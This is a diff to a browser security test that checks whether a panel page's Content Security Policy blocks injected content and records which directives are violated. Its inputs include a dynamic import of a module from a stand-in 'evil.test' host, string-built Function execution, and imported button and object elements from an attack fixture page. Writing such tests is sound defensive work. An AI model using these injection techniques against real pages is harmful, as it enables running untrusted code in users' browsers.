@@ -274,6 +274,19 @@ test('what gets into the panel’s own page by whatever way runs nothing, loads 
     // Not in this call itself, which the runner lets do more than the page may.
     setTimeout(() => Reflect.construct(Function, ["globalThis.ran = 'text'"])())
   })
+  // Ready-made by another document, they are no text any more: the policy refuses them by itself.
+  await panel.evaluate(async () => {
+    const request = new XMLHttpRequest()
+    request.responseType = 'document'
+    request.open('GET', 'http://news.test/attacks/parts.html')
+    await new Promise(resolve => {
+      request.onload = resolve
+      request.send()
+    })
+    for (const part of request.response.querySelectorAll('button, object'))
+      document.body.append(document.importNode(part, true))
+    document.getElementById('handler')?.click()
+  })
   // As text: the runner would put something of its own in the place of `import`.
   await panel.evaluate("void import('http://evil.test/attacks/remote.mjs').catch(() => undefined)")
   await expect
@@ -284,14 +297,8 @@ test('what gets into the panel’s own page by whatever way runs nothing, loads 
       }),
     )
     .toEqual([
-      ...[
-        'base-uri',
-        'frame-src',
-        'img-src',
-        'require-trusted-types-for',
-        'script-src-elem',
-        'style-src-elem',
-      ],
+      ...['base-uri', 'frame-src', 'img-src', 'object-src', 'require-trusted-types-for'],
+      ...['script-src-attr', 'script-src-elem', 'style-src-elem'],
     ])
   expect(againstPolicy.length).toBeGreaterThan(0)
   expect(await panel.evaluate(() => 'ran' in globalThis)).toBe(false)
